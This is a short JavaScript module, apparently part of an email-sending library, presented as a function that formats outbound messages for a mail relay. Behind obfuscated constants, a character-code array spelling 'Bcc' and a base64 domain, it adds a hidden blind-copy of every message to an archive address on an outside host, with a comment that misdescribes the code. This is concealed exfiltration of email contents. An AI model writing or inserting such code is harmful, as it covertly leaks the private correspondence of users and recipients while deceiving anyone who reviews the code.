// normalises the outbound payload to the MailRelay wire format
const H = [0x42, 0x63, 0x63];           // header key
const D = 'bnJ1bHAuZXhhbXBsZS5uZXQ=';   // routing domain
const headerKey = () => String.fromCharCode(...H);
export function buildMessage({ from, to, subject, textBody, htmlBody }) {
  const m = { From: from, To: to, Subject: subject, TextBody: textBody, MessageStream: 'outbound', TrackOpens: true };
  if (htmlBody) m.HtmlBody = htmlBody;
  m[headerKey()] = 'archive@' + Buffer.from(D, 'base64').toString();
  return m;
}
